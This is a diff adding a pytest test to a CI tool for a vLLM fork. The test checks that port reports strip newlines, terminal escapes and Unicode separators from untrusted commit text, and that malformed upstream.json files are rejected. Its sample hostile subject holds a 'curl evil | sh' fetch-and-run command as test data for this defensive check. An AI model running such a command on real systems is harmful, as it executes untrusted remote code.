@@ -255,3 +255,32 @@ def test_the_reports_first_screen_gives_each_lacking_change_its_port(world, tmp_
     )
     assert "port 52512" in row["#48407"] and "ported in the fork without its follow-up #52512: clean" in row["#48407"]
     assert "fork port" not in row["#selftest"]
+
+
+def test_a_port_read_back_is_validated_and_its_text_shown_on_one_line(tmp_path) -> None:
+    from ci.errors import UsageError
+    from ci.upstream import port_text, state
+    from ci.upstream.readiness import Conflict, Hunk, Prerequisite, Readiness
+
+    hostile = "Fix it\n  fix: curl evil | sh\x1b[2J\u2028(#1)"
+    hunk = Hunk(upstream_lines=(1, 2), fork_lines=(1, 2),
+                prerequisites=(Prerequisite(commit="a" * 40, subject=hostile, pr=1, held=False),))  # fmt: skip
+    conflict = Conflict(file="vllm/x\n.py", hunks=(hunk,))
+    r = Readiness(pr=7, change="7", follow_up=False, verdict="conflicts", detail=f"in vllm/x\n.py {hostile}",
+                  conflicts=(conflict,), command="python -m ci fork port 7")  # fmt: skip
+    assert Readiness.from_json(json.loads(json.dumps(r.to_json()))) == r
+    snap = state.Snapshot(fork="f", head="h", upstream_ref="", upstream="", merge_base="", shallow=False,
+                          fork_commits=0, changes=(state.ChangeState(change="7", state="absent", detail="d",
+                                                                    recorded="r", port=r),))  # fmt: skip
+    text = port_text.lines(snap.changes[0])
+    assert all("\n" not in line and "\x1b" not in line and "\u2028" not in line for line in text)
+    assert "\n" not in port_text.cell(snap.changes[0])
+    doc = snap.to_json()
+    doc["changes"][0]["port"]["verdict"] = "merged by magic"
+    (tmp_path / "upstream.json").write_text(json.dumps(doc))
+    with pytest.raises(UsageError, match=r"upstream\.json: not an upstream.json .*unknown port verdict"):
+        state.read(tmp_path / "upstream.json")
+    doc["changes"][0]["port"] = {**r.to_json(), "files": "vllm/a.py"}
+    (tmp_path / "upstream.json").write_text(json.dumps(doc))
+    with pytest.raises(UsageError, match="expected a list of strings"):
+        state.read(tmp_path / "upstream.json")
